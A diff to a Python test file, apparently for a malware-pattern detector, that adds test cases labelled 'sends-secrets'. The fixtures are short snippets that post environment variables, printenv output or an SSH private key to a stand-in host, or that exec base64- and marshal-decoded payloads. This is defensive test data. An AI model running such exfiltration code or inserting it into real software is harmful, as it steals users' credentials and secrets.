@@ -185,6 +185,8 @@ def test_names_are_resolved_as_python_does() -> None:
     [
         ("sends-secrets", "import os, requests\ndef f():\n    requests.post('https://a', json=dict(os.environ))"),
         ("sends-secrets", "import os, requests\ndef f():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('https://a', data=key)"),
+        ("sends-secrets", "import requests, subprocess\ndef f():\n    requests.post('https://a', data=subprocess.check_output(['printenv']))"),
+        ("sends-secrets", "import os, requests\ndef f():\n    requests.post('https://a', data=os.popen('env | base64').read())"),
         ("runs-decoded-code", "import base64\ndef f():\n    exec(base64.b64decode('aW1wb3J0IG9z'))"),
         ("runs-decoded-code", "import base64\nF = ''\ndef f(x):\n    global F\n    F = x\n    exec(base64.b64decode(F))"),
         ("runs-decoded-code", "import base64\nF = ''\nF += 'aW1wb3J0IG9z'\ndef f():\n    exec(base64.b64decode(F))"),
@@ -211,6 +213,8 @@ def test_what_looks_like_malware_counts_in_a_function_that_waits_too(
         "import marshal, zlib\ndef cached(data):\n    exec(marshal.loads(zlib.decompress(data)))",
         "import os\ndef install():\n    open(os.path.expanduser('~/.bashrc'), 'a').write('x')",
         "import socket, requests\ndef f():\n    requests.post('https://a', json={'host': socket.gethostname()})",
+        "import os, requests, subprocess\ndef f(c):\n    done = subprocess.run(c, env=dict(os.environ), capture_output=True)\n    requests.post('https://a', data=done.stdout)",
+        "import os, requests, subprocess\nfrom subprocess import Popen\ndef start(c, extra):\n    env = os.environ.copy()\n    env.update(extra)\n    return Popen(c, env=env)\ndef f(c):\n    requests.post('https://a', json={'pid': start(c, {}).pid})",
         "import base64\nFRAMES = ''\ndef driver():\n    exec(base64.b64decode(FRAMES))",
     ],
 )  # fmt: skip
